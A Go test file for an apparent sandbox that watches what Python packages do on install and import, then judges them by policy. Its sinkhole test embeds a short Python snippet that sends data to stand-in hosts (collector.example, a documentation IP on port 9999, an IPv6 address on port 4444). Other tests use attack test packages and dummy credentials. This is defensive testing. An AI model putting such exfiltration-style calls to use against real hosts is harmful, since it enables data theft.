package check

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"pip-witness/attestation"
	"pip-witness/evidence"
	"pip-witness/internal/interpreter"
	"pip-witness/internal/sandbox"
	"pip-witness/internal/seal"
	"pip-witness/internal/testpkg"
	"pip-witness/policy"
	"pip-witness/rules"
)

func TestMain(m *testing.M) {
	sandbox.Main()
	os.Exit(m.Run())
}

// request is a check without an index, for local files.
func request(t *testing.T, requirements ...string) Request {
	t.Helper()
	return Request{
		Requirements: requirements, Flags: interpreter.Flags{NoIndex: true}, Network: NetworkIndex,
		ImportEnvironments: []string{environmentPlain, environmentCI}, Timeout: 3 * time.Minute, Linger: 3 * time.Second,
		Builder: "pip-witness test", Environ: os.Environ(), WorkDir: t.TempDir(),
	}
}

// observe runs both steps; a machine without user namespaces skips.
func observe(t *testing.T, r Request) *Observation {
	t.Helper()
	o, err := Observe(t.Context(), r)
	var unavailable *sandbox.UnavailableError
	if errors.As(err, &unavailable) {
		t.Skipf("needs a sandbox: %v (%s)", err, unavailable.Hint)
	}
	if err != nil {
		t.Fatalf("observe %q: %v", r.Requirements, err)
	}
	return o
}

func newKey(t *testing.T) *seal.PrivateKey {
	t.Helper()
	key, err := seal.Ephemeral()
	if err != nil {
		t.Fatal(err)
	}
	return key
}

// judge signs and verifies by the built-in policy, in a new directory.
func judge(t *testing.T, o *Observation) *policy.Result {
	t.Helper()
	result, err := Judge(t.Context(), o, Judgement{Key: newKey(t), Directory: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	return result
}

func build(t *testing.T, p testpkg.Package) string {
	t.Helper()
	path, err := p.Build(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return path
}

// denying are the rules of findings that deny.
func denying(r *policy.Result) []string {
	var ids []string
	for _, f := range r.Findings {
		if f.Severity >= policy.High && f.Exception == "" {
			ids = append(ids, f.Rule)
		}
	}
	return ids
}

func TestHonestLocalPackagesPass(t *testing.T) {
	for _, p := range testpkg.Honest() {
		if p.Name == "testpkg-cext" {
			continue // its build requirements come from an index: see the end-to-end tests
		}
		t.Run(p.Name, func(t *testing.T) {
			r := request(t, build(t, p))
			for _, name := range p.Needs {
				needed, err := testpkg.Find(name)
				if err != nil {
					t.Fatal(err)
				}
				r.Flags.FindLinks = append(r.Flags.FindLinks, filepath.Dir(build(t, needed)))
			}
			o := observe(t, r)
			result := judge(t, o)
			if result.Verdict != policy.Pass {
				t.Fatalf("verdict %s, problems %q, findings %+v", result.Verdict, o.Problems, result.Findings)
			}
			var got []string
			for _, i := range o.Steps[1].Command.Imports {
				if i.Environment == environmentPlain {
					got = append(got, i.Module)
				}
			}
			slices.Sort(got)
			want := slices.Sorted(slices.Values(p.Modules))
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("imported modules (-want +got):\n%s", diff)
			}
		})
	}
}

// TestAttacks runs each harmless attack in the sandbox: all that it does is in
// the record, and where a shipped module is about it, the verdict is fail.
func TestAttacks(t *testing.T) {
	for _, a := range testpkg.Attacks() {
		t.Run(a.Name, func(t *testing.T) {
			o := observe(t, request(t, build(t, a.Package)))
			commands := map[string]evidence.CommandRun{}
			for _, s := range o.Steps {
				commands[s.Name] = s.Command
			}
			for _, want := range a.WantRecord {
				if err := want.Find(commands[want.Step]); err != nil {
					t.Errorf("%v", err)
				}
			}
			r := judge(t, o)
			if !a.Denied {
				return
			}
			fired := func(id string) bool { return slices.Contains(denying(r), id) }
			if r.Verdict != policy.Fail || !slices.ContainsFunc(a.WantRules, fired) {
				t.Errorf("verdict %s with %q, want fail with one of %q", r.Verdict, denying(r), a.WantRules)
			}
		})
	}
}

// judgeBySpecification judges an import by the specification's own
// import_behavior.rego, as it stands there.
func judgeBySpecification(t *testing.T, o *Observation, key *seal.PrivateKey) *policy.Result {
	t.Helper()
	source := `{"steps": {
		"pip-install": {"name": "pip-install", "functionaries": [{"type": "publickey", "publickeyid": "..."}],
			"attestations": [{"type": "command-run/v0.1"}, {"type": "omnitrail/v0.1"}]},
		"pip-import": {"name": "pip-import", "functionaries": [{"type": "publickey", "publickeyid": "..."}], "attestationsFrom": ["pip-install"],
			"attestations": [{"type": "command-run/v0.1", "regopolicies": ["import_behavior.rego"]}, {"type": "omnitrail/v0.1"}]}}}`
	compiled, err := policy.Compile(t.Context(), []byte(source), policy.Options{
		Functionaries: []attestation.PublicKey{key.Public()}, Modules: rules.FS, Now: time.Now(),
		ReadFile: func(name string) ([]byte, error) { return os.ReadFile(filepath.Join("../../policy/testdata", name)) },
	})
	if err != nil {
		t.Fatal(err)
	}
	payload, err := compiled.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	envelope, err := policy.Sign(t.Context(), payload, key)
	if err != nil {
		t.Fatal(err)
	}
	signed, err := envelope.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	result, err := Judge(t.Context(), o, Judgement{
		Key: key, Policy: signed, PolicyKeys: []attestation.Verifier{key.Public()}, Directory: t.TempDir(),
	})
	if err != nil {
		t.Fatal(err)
	}
	return result
}

func TestSpecificationModule(t *testing.T) {
	key := newKey(t)
	// As written its mutation rule compares nothing, so it always fires.
	clean := judgeBySpecification(t, observe(t, request(t, build(t, testpkg.Honest()[0]))), key)
	if diff := cmp.Diff([]string{"IMPORT_FILE_MUTATION"}, denying(clean)); diff != "" {
		t.Errorf("on a clean import (-want +got):\n%s", diff)
	}
	stealing := judgeBySpecification(t, observe(t, request(t, build(t, testpkg.KeyReadAndConnect().Package))), key)
	for _, id := range []string{"IMPORT_CRED_ACCESS", "IMPORT_NEW_CONNECTION"} {
		if !slices.Contains(denying(stealing), id) {
			t.Errorf("on a key reader it found %q, want %s among them", denying(stealing), id)
		}
	}
}

func TestEvidenceHoldsNoSecret(t *testing.T) {
	const secret = "correct-horse-battery"
	r := request(t, build(t, testpkg.Honest()[0]))
	r.Environ = append(slices.Clone(r.Environ), "AWS_SECRET_ACCESS_KEY="+secret, "PIP_EXTRA_INDEX_URL=https://user:"+secret+"@index.example/simple")
	r.Flags.ExtraIndexURLs = []string{"https://user:" + secret + "@index.example/simple"}
	o := observe(t, r)
	dir := t.TempDir()
	if _, err := Judge(t.Context(), o, Judgement{Key: newKey(t), Directory: dir}); err != nil {
		t.Fatal(err)
	}
	for _, s := range o.Steps {
		if bytes.Contains(s.Collection.Payload, []byte(secret)) {
			t.Errorf("the payload of %s holds the secret", s.Name)
		}
	}
	// Envelopes hide their payload in base64, so it is looked at decoded as well.
	seen := 0
	err := filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if envelope, err := attestation.ParseEnvelope(data); err == nil {
			data = append(data, envelope.Payload...)
		}
		seen++
		if bytes.Contains(data, []byte(secret)) {
			t.Errorf("%s holds the secret", path)
		}
		return nil
	})
	if err != nil || seen < 10 {
		t.Errorf("%d files were looked at: %v", seen, err)
	}
}

func TestOverlaid(t *testing.T) {
	file := evidence.FileState{Kind: evidence.KindFile, Size: 1}
	changed := evidence.FileState{Kind: evidence.KindFile, Size: 2}
	dir := evidence.FileState{Kind: evidence.KindDirectory}
	whiteout := evidence.FileState{Kind: evidence.KindDevice}
	lower := &evidence.Tree{Roots: []string{"/h"}, Files: map[string]evidence.FileState{
		"/h": dir, "/h/a": file, "/h/d": dir, "/h/d/x": file, "/h/d/y": file, "/h/o": dir, "/h/o/old": file, "/h/gone": dir, "/h/gone/z": file,
	}}
	upper := &evidence.Tree{Roots: []string{"/h"}, Files: map[string]evidence.FileState{
		"/h": dir, "/h/a": changed, "/h/d": dir, "/h/d/x": whiteout, "/h/new": file, "/h/o": dir, "/h/o/fresh": file, "/h/gone": whiteout,
	}}
	got := overlaid(lower, upper, func(p string) bool { return p == "/h/o" })
	want := map[string]evidence.FileState{
		"/h": dir, "/h/a": changed, "/h/d": dir, "/h/d/y": file, "/h/new": file, "/h/o": dir, "/h/o/fresh": file,
	}
	if diff := cmp.Diff(want, got.Files); diff != "" {
		t.Errorf("merged tree (-want +got):\n%s", diff)
	}
	if _, ok := lower.Files["/h/gone/z"]; !ok {
		t.Error("the lower tree was changed")
	}
}

func TestInterruptRemovesEverything(t *testing.T) {
	ctx, cancel := context.WithCancelCause(t.Context())
	stopped := errors.New("stopped by the test")
	temp := t.TempDir()
	t.Setenv("TMPDIR", temp)
	p, err := testpkg.Find("testpkg-import-hangs")
	if err != nil {
		t.Fatal(err)
	}
	r := request(t, build(t, p))
	r.Progress = func(now Progress) {
		if now.Stage == "import" && now.Calls > 0 {
			cancel(stopped)
		}
	}
	_, err = Observe(ctx, r)
	var unavailable *sandbox.UnavailableError
	if errors.As(err, &unavailable) {
		t.Skipf("needs a sandbox: %v", err)
	}
	if !errors.Is(err, stopped) {
		t.Errorf("error %v, want the cause of the cancellation", err)
	}
	left, err := filepath.Glob(filepath.Join(temp, "pip-witness-*"))
	if err != nil || len(left) > 0 {
		t.Errorf("left behind: %q (%v)", left, err)
	}
}

func TestWaitsForEver(t *testing.T) {
	for _, c := range []struct {
		name, call string
		want       bool
	}{
		{"futex without time limit", "202 0x7f 0x189 0x0 0x0 0x0 0xffffffff 0x7ff 0x7f", true},
		{"futex with a time limit", "202 0x7f 0x189 0x0 0x7ffe10 0x0 0xffffffff 0x7ff 0x7f", false},
		{"sleep", "230 0x1 0x0 0x7ff 0x0 0x0 0x0 0x7ff 0x7f", false},
		{"running", "running", false},
		{"empty", "", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := waitsForEver(c.call); got != c.want {
				t.Errorf("waitsForEver(%q) = %t, want %t", c.call, got, c.want)
			}
		})
	}
}

// TestEverythingElseIsASinkhole lets a package contact addresses that exist
// nowhere: in the sandbox's own network namespace, which has no route out.
func TestEverythingElseIsASinkhole(t *testing.T) {
	source := `
import socket, urllib.request
try:
    urllib.request.urlopen("http://collector.example/up", data=b"payload", timeout=1)
except OSError:
    pass
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"datagram", ("203.0.113.7", 9999))
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.connect(("2001:db8::1", 4444))
s.sendall(b"sixth")
`
	p := testpkg.Wheel{Name: "testpkg-calls", Version: "1.0", Files: map[string]string{"testpkg_calls.py": source}}
	data, err := p.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), p.Filename())
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	r := request(t, path)
	r.ImportEnvironments = []string{environmentPlain}
	o := observe(t, r)
	command := o.Steps[1].Command
	network := command.Processes[0].Network
	got := map[string]string{}
	for _, f := range network.Flows {
		first, err := base64.StdEncoding.DecodeString(f.FirstBytes)
		if err != nil {
			t.Fatal(err)
		}
		got[f.Protocol+" "+f.Hostname+f.HTTPHost] += string(first[max(0, len(first)-8):])
	}
	want := map[string]string{"tcp collector.examplecollector.example": "\npayload", "udp ": "datagram", "tcp ": "sixth"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ends of flows (-want +got):\n%s", diff)
	}
	asked := func(l evidence.DNSLookup) bool { return l.Query == "collector.example" && l.Type == "A" }
	if !slices.ContainsFunc(network.DNSLookups, asked) {
		t.Errorf("queries %+v", network.DNSLookups)
	}
	named := func(c evidence.Connection) bool { return c.Hostname == "collector.example" && c.Port == 80 }
	if !slices.ContainsFunc(network.Connections, named) {
		t.Errorf("connections %+v", network.Connections)
	}
}
